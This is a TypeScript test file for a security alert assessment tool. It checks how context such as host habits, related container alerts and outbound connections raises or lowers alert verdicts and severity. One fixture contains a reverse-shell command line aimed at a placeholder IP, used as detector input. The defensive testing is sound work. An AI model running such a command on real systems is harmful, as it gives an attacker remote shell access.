import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { alertFrom } from "#alert/facts.fixture.ts";
import type { Alert } from "#domain/alert.ts";
import type { Relation } from "#domain/analysis.ts";
import { assess } from "../assess.ts";
import { nothingAround } from "./around.fixture.ts";
import type { Around, Related } from "./around.ts";
import { mayBeHabit } from "./weigh.ts";

const place = { "container.id": "4f2b8c1d9e07", "container.name": "orders" };
const plain = alertFrom({
  _rule: "R",
  _priority: "Notice",
  "proc.name": "cat",
  "proc.cmdline": "cat /srv/x",
  ...place,
});
const remoteShell = alertFrom({
  _rule: "S",
  "proc.name": "bash",
  "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.6/4444 0>&1",
  ...place,
});
const wayOut = alertFrom({
  _rule: "C",
  _priority: "Notice",
  "evt.type": "connect",
  "proc.name": "svc",
  "proc.cmdline": "svc",
  "fd.name": "10.0.0.5:41000->198.51.100.23:443",
  "fd.l4proto": "tcp",
  ...place,
});

function related(alert: Alert, relation: Relation, offsetMs = 9000): Related {
  return { alert, assessment: assess(alert), relation, offsetMs, times: 1 };
}

function weighed(alert: Alert, change: Partial<Around>) {
  const { body, weighed: by } = assess(alert, { ...nothingAround, ...change });
  return [by?.effect, body.verdict, body.risk_assessment.severity];
}

const habit = { hosts: 3 };
const firstOfAll = nothingAround.rule === null ? null : { ...nothingAround.rule, firstNs: null };

describe("what the surroundings do", () => {
  it("is nothing where there are none", () => assert.equal(weighed(plain, {})[0], "none"));

  it("is calm by a habit of other hosts", () =>
    assert.deepEqual(weighed(plain, { habit }), ["lowered", "false_positive", "low"]));

  it("is alarm by an attack in the container, whatever the habit", () =>
    assert.deepEqual(weighed(plain, { habit, related: [related(remoteShell, "container")] }), [
      "raised",
      "true_positive",
      "medium",
    ]));

  it("is never calm about what is certain", () => {
    assert.deepEqual(weighed(remoteShell, { habit }).slice(0, 2), ["none", "true_positive"]);
    assert.equal(mayBeHabit(assess(remoteShell)), false);
  });

  it("is alarm by a way out after what never happened before, and only then", () => {
    const out = { related: [related(wayOut, "container")] };
    assert.equal(weighed(plain, { ...out, rule: firstOfAll })[0], "raised");
    assert.equal(weighed(plain, out)[0], "none");
    assert.equal(weighed(plain, { related: [related(wayOut, "container", -9000)], rule: firstOfAll })[0], "none");
    assert.equal(weighed(plain, { related: [related(wayOut, "host")], rule: firstOfAll })[0], "none");
    assert.equal(
      weighed(plain, {
        ...out,
        rule: firstOfAll === null ? null : { ...firstOfAll, goesBackNs: 86_400_000_000_000n },
      })[0],
      "none",
    );
  });

  it("counts its own rule only where that tells of something worse", () => {
    const worse = { ...remoteShell, rule: "R" };
    assert.equal(weighed(plain, { related: [related(worse, "container")] })[0], "raised");
    assert.equal(weighed(worse, { related: [related(worse, "container")] })[0], "none");
  });

  it("is never below the floor", () => {
    const { severityFloor } = assess(remoteShell);
    assert.equal(weighed(remoteShell, { habit, related: [related(plain, "container")] })[2], severityFloor);
  });
});
